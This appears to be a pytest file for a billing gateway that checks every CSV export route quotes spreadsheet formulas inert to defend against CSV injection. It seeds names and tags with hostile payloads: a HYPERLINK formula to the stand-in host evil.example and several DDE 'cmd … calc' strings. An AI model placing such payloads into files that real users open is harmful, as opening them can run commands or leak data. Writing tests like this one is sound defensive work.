"""No CSV Meterway writes carries a live spreadsheet formula (OWASP's CSV injection): an
account, a key and a team named like formulas, a tag value and a provider report's model name
that are formulas, after real calls through the official openai SDK, come out of every CSV
route quoted inert (`'=...`), while a negative figure (a refund) stays a number.

The routes are not listed here: every declared route whose OpenAPI operation answers
text/csv is called (`declared`), so a new CSV route is tested the day it is added."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import pytest

from billing.contracts.statements import month_of
from billing.csv_cells import FORMULA_STARTS
from billing.proof.provider_reports import Slot
from billing.proof.reconcile import Difference
from gateway.http.routing import Route, declared, operation
from tests.support.dashboard_client import signed_in
from tests.support.factories import openai_client
from tests.support.harness import ADMIN_KEY, Gateway, running_gateway

ACCOUNT = '=HYPERLINK("http://evil.example/?x","click")'
KEY = "+cmd|' /C calc'!A0"
TAG = "@SUM(1+1)*cmd|' /C calc'!A0"
TEAM = "-2+3+cmd|' /C calc'!A0"
MODEL = "=cmd|' /C calc'!A0"  # a model name as a provider's usage report spells it
SCOPES = ["chat", "billing", "usage:read", "statements:read", "account:read"]
MONTH = str(month_of(datetime.now(UTC)))
# What must reach each route's CSV (so the check below cannot pass by finding nothing).
CARRIES = {
    "/v1/account/exports/focus": (ACCOUNT, KEY, TAG, TEAM),
    "/admin/v1/exports/focus": (ACCOUNT, KEY, TAG, TEAM),
    "/v1/account/usage": (TAG,),
    "/admin/v1/accounts/{account_id}/usage/report": (TAG,),
    "/admin/v1/reconciliation/providers": (MODEL,),
    "/dashboard/usage/export": (TAG,),
}


@pytest.fixture(scope="module")
async def gw(dsn: str) -> AsyncIterator[Gateway]:
    async with running_gateway(dsn) as gateway:
        yield gateway


async def _hostile_account(gw: Gateway) -> tuple[str, str]:
    """An account, team and key named like formulas, the key tagged with one, a real call
    and a refund-like adjustment settled; (account id, key)."""
    status, account = await gw.admin("POST", "/admin/v1/accounts", {"name": ACCOUNT, "plan": "pro"})
    assert status == 201, account
    aid = account["id"]
    status, team = await gw.admin("POST", f"/admin/v1/accounts/{aid}/teams", {"name": TEAM})
    assert status == 201, team
    body = {"account_id": aid, "name": KEY, "scopes": SCOPES}
    status, key = await gw.admin("POST", "/admin/v1/keys", body)
    assert status == 201, key
    joined = {"team_id": team["id"]}
    status, moved = await gw.admin("PUT", f"/admin/v1/keys/{key['id']}/team", joined)
    assert status == 200, moved
    status, tagged = await gw.admin(
        "PUT", f"/admin/v1/keys/{key['id']}/tags", {"tags": {"cc": TAG}}
    )
    assert status == 200, tagged
    credit = {"amount_micros": 10_000_000, "idempotency_key": "seed", "reason": TAG}
    status, body = await gw.admin("POST", f"/admin/v1/accounts/{aid}/credits", credit)
    assert status == 201, body
    async with openai_client(gw, key["key"]) as client:
        hi = [{"role": "user", "content": "hi"}]
        await client.chat.completions.create(model="gpt-4o", messages=hi, max_tokens=20)  # type: ignore[arg-type]
    await gw.settle_all()
    return aid, key["key"]


def _csv_routes(gw: Gateway) -> list[tuple[str, bool]]:
    """Every declared GET whose operation answers text/csv, and the dashboard's downloads
    of the account's (`.../export`): (its path, for the operator)."""
    return [
        (path, path.startswith("/admin/"))
        for path, route in declared(gw.app)
        if route.method == "GET"
        and ("text/csv" in json.dumps(operation(path, route)) or _download(path, route))
    ]


def _download(path: str, route: Route) -> bool:
    return (
        route.action.surface == "account"
        and path.startswith("/dashboard/")
        and (path.endswith("/export"))
    )


def _safe(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_every_csv_route_writes_formulas_inert(gw: Gateway) -> None:
    aid, key = await _hostile_account(gw)
    day = datetime.now(UTC).date()
    diff = Difference(Slot("openai", day, MODEL), "input", "unexplained", 5, 0, 7, 0, 7, TAG)
    await gw.stores().provider_reconciliation().record("openai", day, "openai", [diff])
    routes = _csv_routes(gw)
    assert {p for p, _ in routes} >= CARRIES.keys(), routes
    query = {"format": "csv", "group_by": "tag:cc", "month": MONTH, "account_id": aid}
    dash = await signed_in(gw, key)
    try:
        for path, operator in routes:
            url = gw.url + path.format(account_id=aid, month=MONTH)
            bearer = ADMIN_KEY if operator else key
            http, headers = (dash, {}) if path.startswith("/dashboard") else (
                gw.http, {"Authorization": f"Bearer {bearer}"})  # fmt: skip
            async with http.get(url, params=query, headers=headers) as r:
                text = await r.text()
            if r.status == 403 and not operator:
                continue  # people only (the account's audit log): its operator twin is called
            assert r.status == 200 and r.content_type == "text/csv", (path, text)
            cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
            assert [c for c in cells if not _safe(c)] == [], path
            if path.endswith("/exports/focus"):
                assert "-10.000000" in cells, path  # the credit's BilledCost: still a number
            for hostile in CARRIES.get(path, ()):
                assert "'" + hostile in cells or any(hostile in c for c in cells if c[:1] == "{"), (
                    path, hostile,
                )  # fmt: skip
    finally:
        await dash.close()
